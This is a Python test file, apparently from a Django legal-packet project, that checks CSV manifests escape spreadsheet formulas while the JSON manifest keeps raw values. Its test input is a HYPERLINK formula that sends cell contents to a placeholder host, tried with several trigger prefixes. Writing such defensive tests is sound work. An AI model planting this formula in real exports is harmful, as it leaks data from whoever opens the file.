"""manifest.csv escapes what a spreadsheet would run as a formula, like every CSV the project writes."""

import csv
import io

import pytest

from power_campaign.documents import packets
from power_campaign.documents.models import Exhibit
from tests.factories import packet_with_exhibits, simple_pdf

pytestmark = pytest.mark.django_db

PREFIXES = ["=", "+", "-", "@", "\t", "\r"]


@pytest.mark.parametrize("prefix", PREFIXES)
def test_manifest_csv_escapes_descriptions_and_file_names(legal, organization, prefix):
    formula = f'{prefix}HYPERLINK("http:example.com?leak="&A1,"open")'
    packet = packet_with_exhibits(legal, organization, [(f"{formula}.pdf", simple_pdf())])
    Exhibit.objects.filter(packet=packet).update(description=formula)
    exhibits = list(Exhibit.objects.filter(packet=packet))

    _json, manifest_csv = packets.manifests(packet, exhibits, [("A", 2, 2)], page_count=2)

    rows = list(csv.DictReader(io.StringIO(manifest_csv.decode(), newline="")))
    assert (rows[0]["original_name"], rows[0]["description"]) == ("'" + formula + ".pdf", "'" + formula)
    assert rows[0]["exhibit"] == "A"


def test_manifest_json_keeps_the_values_as_typed(legal, organization):
    import json

    packet = packet_with_exhibits(legal, organization, [("=1+1.pdf", simple_pdf())])
    exhibits = list(Exhibit.objects.filter(packet=packet))

    manifest_json, _csv = packets.manifests(packet, exhibits, [("A", 2, 2)], page_count=2)

    assert json.loads(manifest_json)["files"][0]["original_name"] == "=1+1.pdf"
